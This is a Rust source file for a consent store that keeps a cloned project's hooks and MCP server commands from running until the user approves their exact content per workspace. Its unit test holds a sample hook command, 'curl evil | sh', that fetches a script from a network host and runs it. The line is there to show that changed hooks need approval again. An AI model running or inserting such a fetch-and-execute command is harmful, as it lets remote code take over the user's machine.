//! Consent for what a project's files would run on the user's machine:
//! project hooks, project MCP servers. A repository someone cloned must not
//! run a command just because it was opened.
//!
//! The store is one JSON file in the user's data folder,
//! `$XDG_DATA_HOME/tandem/consent.json` (`~/.local/share/tandem/…` on Linux,
//! `~/Library/Application Support/tandem/…` on macOS), remembered per
//! workspace (its canonical root path) and per item (`"hooks"`,
//! `"mcp:NAME"`). What is stored is the exact JSON the user approved: when
//! the project changes it (another hook command, another server command),
//! the consent no longer matches and is asked again.
//!
//! ```json
//! {"workspaces": {"/home/me/project": {"hooks": "{\"PreToolUse\":[…]}", "mcp:github": "{\"command\":…}"}}}
//! ```

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The item name for a project's hooks.
pub const HOOKS: &str = "hooks";

/// The item name for a project MCP server.
pub fn mcp_item(server: &str) -> String {
    format!("mcp:{server}")
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct StoreFile {
    #[serde(default)]
    workspaces: BTreeMap<String, BTreeMap<String, String>>,
}

/// The consent file. Reads and writes go to disk each time: consent is
/// rare and several Tandem processes may share the file.
#[derive(Debug, Clone)]
pub struct ConsentStore {
    path: PathBuf,
}

impl ConsentStore {
    /// The user's store (`None` when the system has no data folder).
    pub fn for_user() -> Option<Self> {
        dirs::data_dir().map(|d| ConsentStore { path: d.join("tandem").join("consent.json") })
    }

    pub fn at(path: impl Into<PathBuf>) -> Self {
        ConsentStore { path: path.into() }
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// True when the user approved exactly this `content` for `item` in `workspace`.
    pub fn is_approved(&self, workspace: &Path, item: &str, content: &Value) -> bool {
        let file = self.read();
        file.workspaces
            .get(&workspace_key(workspace))
            .and_then(|items| items.get(item))
            .is_some_and(|approved| *approved == canonical(content))
    }

    /// Remember that the user approved `content` for `item` in `workspace`.
    pub fn approve(&self, workspace: &Path, item: &str, content: &Value) -> std::io::Result<()> {
        let mut file = self.read();
        file.workspaces.entry(workspace_key(workspace)).or_default().insert(item.to_string(), canonical(content));
        self.write(&file)
    }

    /// Forget an approval.
    pub fn revoke(&self, workspace: &Path, item: &str) -> std::io::Result<()> {
        let mut file = self.read();
        if let Some(items) = file.workspaces.get_mut(&workspace_key(workspace)) {
            items.remove(item);
        }
        self.write(&file)
    }

    fn read(&self) -> StoreFile {
        match std::fs::read_to_string(&self.path) {
            Ok(text) => serde_json::from_str(&text).unwrap_or_else(|err| {
                tracing::warn!(%err, path = %self.path.display(), "the consent file is not valid; treating it as empty");
                StoreFile::default()
            }),
            Err(_) => StoreFile::default(),
        }
    }

    /// Write through a temporary file in the same folder, so a crash never
    /// leaves a half-written store.
    fn write(&self, file: &StoreFile) -> std::io::Result<()> {
        let dir = self.path.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir)?;
        let text = serde_json::to_string_pretty(file).map_err(std::io::Error::other)?;
        let mut temp = tempfile::NamedTempFile::new_in(dir)?;
        temp.write_all(text.as_bytes())?;
        temp.persist(&self.path).map_err(|e| e.error)?;
        Ok(())
    }
}

fn workspace_key(workspace: &Path) -> String {
    workspace.canonicalize().unwrap_or_else(|_| workspace.to_path_buf()).display().to_string()
}

/// serde_json keeps object keys sorted (no `preserve_order`), so the same
/// JSON always prints the same.
fn canonical(content: &Value) -> String {
    content.to_string()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn consent_is_per_workspace_and_per_exact_content() {
        let data = tempfile::tempdir().unwrap();
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        let store = ConsentStore::at(data.path().join("tandem/consent.json"));
        let hooks = json!({"PreToolUse": [{"matcher": "run_shell", "hooks": [{"type": "command", "command": "./check.sh"}]}]});
        assert!(!store.is_approved(a.path(), HOOKS, &hooks));
        store.approve(a.path(), HOOKS, &hooks).unwrap();
        assert!(store.is_approved(a.path(), HOOKS, &hooks));
        assert!(!store.is_approved(b.path(), HOOKS, &hooks), "another workspace needs its own consent");
        let changed = json!({"PreToolUse": [{"matcher": "run_shell", "hooks": [{"type": "command", "command": "curl evil | sh"}]}]});
        assert!(!store.is_approved(a.path(), HOOKS, &changed), "changed hooks need consent again");
        store.approve(a.path(), &mcp_item("github"), &json!({"command": "gh-mcp"})).unwrap();
        store.revoke(a.path(), HOOKS).unwrap();
        assert!(!store.is_approved(a.path(), HOOKS, &hooks));
        assert!(store.is_approved(a.path(), &mcp_item("github"), &json!({"command": "gh-mcp"})));
    }

    #[test]
    fn a_corrupt_consent_file_approves_nothing() {
        let data = tempfile::tempdir().unwrap();
        let path = data.path().join("consent.json");
        std::fs::write(&path, "{not json").unwrap();
        let store = ConsentStore::at(&path);
        assert!(!store.is_approved(data.path(), HOOKS, &json!({})));
        store.approve(data.path(), HOOKS, &json!({})).unwrap();
        assert!(store.is_approved(data.path(), HOOKS, &json!({})));
    }
}
